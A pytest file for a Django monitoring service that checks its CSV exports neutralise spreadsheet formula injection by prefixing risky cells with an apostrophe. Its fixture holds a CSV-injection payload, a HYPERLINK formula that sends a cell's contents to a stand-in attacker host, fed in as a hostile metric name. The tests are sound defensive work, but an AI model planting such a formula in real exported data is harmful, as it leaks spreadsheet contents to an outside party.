"""A CSV file that we serve runs no formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone

from monitor.analysis.forecasts.defaults import METHOD
from monitor.analysis.forecasts.scoreboard_csv import PARTS
from monitor.core.csvfile import FORMULA_STARTS, to_csv
from monitor.core.env import ROOT
from monitor.models import DayScore, Forecast, ForecastState, Metric, Series, Site
from monitor.runs.ingest.service import ingest
from reporters import report as wire
from tests.monitor.builders import circle_report
from tests.monitor.web.pages import builders

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'
SCORES = [f"{path}/{part}.csv" for path in ("/forecasts/accuracy", "/api/v1/scoreboard") for part in PARTS]
EXPORTS = ["/series/circle/samples.csv", "/api/v1/series/circle/export?format=csv"]


@pytest.fixture
def browser(circle: Series) -> Client:
    """A browser of a user who sees hostile names of metrics, methods, units, sites and series."""
    now = timezone.now()
    hostile = wire.MetricValue(FORMULA, -2.5, "+seconds")
    sent = circle_report(now - timedelta(minutes=5))
    assert ingest(wire.to_json(replace(sent, metrics=[hostile]))).accepted
    total = Metric.objects.get(name="total.seconds")
    Metric.objects.filter(pk=total.pk).update(unit="@seconds")
    site = Site.objects.create(name="-site")
    counts = {"n": 1, "last_value_n": 1, "interval_n": 1, "within_80": 1, "within_90": 1}
    sums = {"absolute_error": 15.0, "last_value_error": 20.0, "compared_error": 15.0, "actual": 120.0}
    for place in (None, site):
        fields = {"metric": "total.seconds", "unit": "-s", "method": "=method", "suite": circle.suite}
        DayScore.objects.create(day=now.date(), site=place, **fields, **counts, **sums)
    numbers = {"mean": -7.0, "median": 7.0, "lower": 6.0, "upper": 8.0, "truth": 9.0, "truth_time": now}
    times = {"issued_at": now, "last_time": now, "last_known_at": now}
    Forecast.objects.create(metric=total, method=METHOD, level=0.8, n=9, **numbers, **times)
    ForecastState.objects.update_or_create(metric=total, defaults={"record_n": 1, "last_time": now})
    client = Client()
    client.force_login(builders.user("reader"))
    return client


def cells(browser: Client, path: str) -> set[str]:
    query = "" if path in EXPORTS else "?metric=total.seconds&method=%3Dmethod"
    if path.endswith("last.csv"):
        query = f"?metric=total.seconds&method={METHOD}"
    answer = browser.get(path + query)
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(answer.getvalue().decode(), newline="")))
    assert len(rows) > 1, "the table is empty"
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize("path", [*EXPORTS, *SCORES])
def test_no_served_cell_is_a_formula(browser: Client, path: str) -> None:
    served = cells(browser, path)
    formulas = {cell for cell in served if cell.startswith(FORMULA_STARTS)}
    assert {cell for cell in formulas if not cell.removeprefix("-").replace(".", "").isdigit()} == set()
    assert any(cell.startswith(tuple(f"'{start}" for start in FORMULA_STARTS)) for cell in served)


def test_a_hostile_name_stays_readable_and_its_number_stays_a_number(browser: Client) -> None:
    assert {f"'{FORMULA}", "'+seconds", "-2.5"} <= cells(browser, EXPORTS[0])


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_an_apostrophe_precedes_a_text_that_begins_like_a_formula(start: str) -> None:
    ((shown, inner),) = csv.reader(io.StringIO(to_csv([[f"{start}1", f"a{start}"]]), newline=""))
    assert (shown, inner) == (f"'{start}1", f"a{start}")


def test_numbers_and_empty_cells_stay_as_they_are() -> None:
    assert to_csv([[-1.5, None, -3, ""]], line_end="\n") == "-1.5,,-3,\n"


def test_only_one_module_of_the_service_writes_csv() -> None:
    sources = {path: path.read_text(encoding="utf-8") for path in Path(ROOT, "monitor").rglob("*.py")}
    writers = {path.name for path, source in sources.items() if "csv.writer(" in source}
    assert writers == {"csvfile.py"}
